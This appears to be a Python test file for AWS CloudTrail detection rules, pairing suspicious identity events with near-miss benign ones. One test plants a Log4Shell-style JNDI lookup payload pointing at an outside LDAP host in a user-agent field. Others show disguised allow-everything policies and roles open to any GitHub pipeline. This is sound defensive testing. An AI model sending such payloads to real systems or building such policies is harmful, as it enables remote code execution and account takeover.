"""The identity rules about roots, credentials, policies and trusts: both sides of each."""

from __future__ import annotations

from .cases import Case, series
from .trail import (
    ACCOUNT,
    ANNA,
    ELSEWHERE,
    OTHER,
    PIPELINE,
    Json,
    call,
    policy,
    root,
    service,
    session,
    sign_in,
    statement,
    through,
    trust,
    user,
)

GITHUB = f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"
SAML = f"arn:aws:iam::{ACCOUNT}:saml-provider/office"
EKS = f"arn:aws:iam::{ACCOUNT}:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/EXAMPLE"
HOST = session("web-server", "i-0a1b2c3d4e5f60718")
OTHER_HOST = session("web-server", "i-0fffffffffffffff0")
ROOT_KEY = {**root(), "accessKeyId": "AKIAEXAMPLEROOTEXAMP"}


def _role(provider: str, **conditions: object) -> bytes:
    allowed: Json = {**trust({"Federated": provider}), "Action": "sts:AssumeRoleWithWebIdentity"}
    if conditions:
        allowed["Condition"] = conditions
    request = {"roleName": "ci", "assumeRolePolicyDocument": policy(allowed)}
    return call("iam", "CreateRole", request)


def _sub(value: str) -> bytes:
    return _role(GITHUB, StringLike={"token.actions.githubusercontent.com:sub": value})


def _changed(provider: str, value: str) -> bytes:
    """The same trust, given to a role that is there."""
    narrowed = {"StringLike": {"token.actions.githubusercontent.com:sub": value}}
    document = policy({**trust({"Federated": provider}), "Condition": narrowed})
    return call("iam", "UpdateAssumeRolePolicy", {"roleName": "ci", "policyDocument": document})


def _policy(document: str) -> bytes:
    return call("iam", "PutUserPolicy", {"userName": "bert", "policyDocument": document})


def _assume(account: str, who: Json = ANNA) -> bytes:
    request = {"roleArn": f"arn:aws:iam::{account}:role/ops", "roleSessionName": "x"}
    return call("sts", "AssumeRole", request, who=who)


def _instance(name: str, ip: str, at: float, who: Json = HOST, more: Json | None = None) -> bytes:
    return call("ssm" if "Update" in name else "ec2", name, who=who, ip=ip, at=at, more=more)


def _center(result: str, at: float, ip: str = ELSEWHERE) -> bytes:
    """The check of a password at IAM Identity Center."""
    name = "CredentialVerification" if result == "Failure" else "UserAuthentication"
    who: Json = {"type": "Unknown", "accountId": ACCOUNT, "userName": "anna"}
    details: Json = {"serviceEventDetails": {name: result}}
    return call("signin", name, who=who, ip=ip, at=at, kind="AwsServiceEvent", more=details)


ESCAPED = policy(statement("s3:GetObject")).replace("s3:Get", "\\u0073\\u0033:Get")

CENTER = [*series(6, lambda n: _center("Failure", 20 * n)), _center("Success", 200)]
"""The same guessing at IAM Identity Center."""

WIDE = (
    policy(statement(["s3:GetObject", "*"])),
    policy(statement("*"), statement("s3:DeleteBucket", effect="Deny")),
    policy({"Effect": "Allow", "NotAction": "ec2:TerminateInstances", "Resource": "*"}),
    policy({"Resource": ["arn:aws:s3:::x", "*"], "Action": "iam:*", "Effect": "Allow"}),
    policy({**statement("*"), "Condition": {"Bool": {"aws:SecureTransport": "true"}}}),
)
"""Policies that allow everything, less plainly."""
NARROW = (
    policy(statement("s3:GetObject"), {"Effect": "Deny", "NotAction": "iam:*", "Resource": "*"}),
    policy(statement("s3:GetObject", "*"), statement("*", "*", effect="Deny")),
    policy(statement(["s3:Get*", "s3:List*"], "arn:aws:s3:::*/*")),
)
"""Policies that look a little like it."""

CASES = (
    Case(
        "Root's lasting key used",
        [call("s3", "ListBuckets", who=ROOT_KEY, read_only=True)],
        [
            call("s3", "ListBuckets", who=root(), read_only=True),
            call("s3", "ListBuckets", read_only=True),
            call("kms", "Decrypt", who=through(ROOT_KEY, "s3.amazonaws.com"), read_only=True),
        ],
    ),
    Case(
        "Root session taken in a member account",
        [call("sts", "AssumeRoot", {"targetPrincipal": OTHER})],
        [call("sts", "AssumeRole", {"roleSessionName": "x"})],
    ),
    Case(
        "Other credential made for another user",
        [call("iam", "UploadSigningCertificate", {"userName": "bert"})],
        [
            call("iam", "UploadSSHPublicKey", {"userName": "anna"}),
            call("iam", "ListSigningCertificates", {"userName": "bert"}, read_only=True),
        ],
    ),
    Case(
        "Lookup or script in a user agent",
        [call("s3", "ListBuckets", agent="${jndi:ldap://203.0.113.91/a}", error="AccessDenied")],
        [call("s3", "ListBuckets", agent="Jersey/${project.version} (HttpUrlConnection 1.8)")],
    ),
    Case(
        "MFA device added for another user",
        [call("iam", "EnableMFADevice", {"userName": "bert", "serialNumber": "x"})],
        [call("iam", "EnableMFADevice", {"userName": "anna", "serialNumber": "x"})],
    ),
    Case(
        "Password changed by its user",
        [call("iam", "ChangePassword")],
        [call("iam", "GetAccountPasswordPolicy", read_only=True)],
    ),
    Case(
        "Policy set back to another version",
        [call("iam", "SetDefaultPolicyVersion", {"policyArn": "x", "versionId": "v1"})],
        [call("iam", "CreatePolicyVersion", {"policyDocument": policy(statement("s3:Get*"))})],
    ),
    Case(
        "Policy written in escapes",
        [_policy(ESCAPED)],
        [_policy(policy(statement("s3:GetObject", "arn:aws:s3:::u00/*")))],
    ),
    Case(
        "Role that outside identities may assume",
        [_role(SAML), _sub("repo:example/shop:ref:refs/heads/main")],
        [
            _role(EKS),
            call("iam", "CreateOpenIDConnectProvider", {"policyDocument": '"Federated" Allow'}),
            call("iam", "CreateRole", {"assumeRolePolicyDocument": policy(trust("x"))}),
        ],
    ),
    Case(
        "Role for any pipeline of a public host",
        [_role(GITHUB), _sub("*"), _sub("repo:*"), _changed(GITHUB, "*")],
        [_sub("repo:example/shop:*"), _role(SAML), _changed(GITHUB, "repo:example/shop:*")],
    ),
    Case(
        "Role of another account assumed",
        [_assume(OTHER), _assume(OTHER, PIPELINE)],
        [
            _assume(ACCOUNT),
            _assume(OTHER, service("config.amazonaws.com")),
            _assume(OTHER, through(PIPELINE, "cloudformation.amazonaws.com")),
        ],
    ),
    Case(
        "Instance's credentials used elsewhere",
        [
            _instance("UpdateInstanceInformation", "198.51.100.20", 0),
            _instance("DescribeInstances", ELSEWHERE, 900),
        ],
        [
            _instance("UpdateInstanceInformation", "198.51.100.20", 0),
            _instance("DescribeInstances", "198.51.100.20", 60),
            _instance("DescribeInstances", "10.0.0.7", 90, more={"vpcEndpointId": "vpce-0a1b"}),
            _instance("UpdateInstanceInformation", "198.51.100.21", 120, OTHER_HOST),
        ],
    ),
    Case(
        "Console user attacked from many addresses",
        series(5, lambda n: sign_in("Failure", ip=f"203.0.113.{n + 1}", at=60 * n)),
        [
            *series(9, lambda n: sign_in("Failure", ip=ELSEWHERE, at=60 * n)),
            *series(5, lambda n: sign_in("Failure", who=user(f"u{n}"), ip=f"203.0.113.{n + 1}")),
        ],
    ),
)
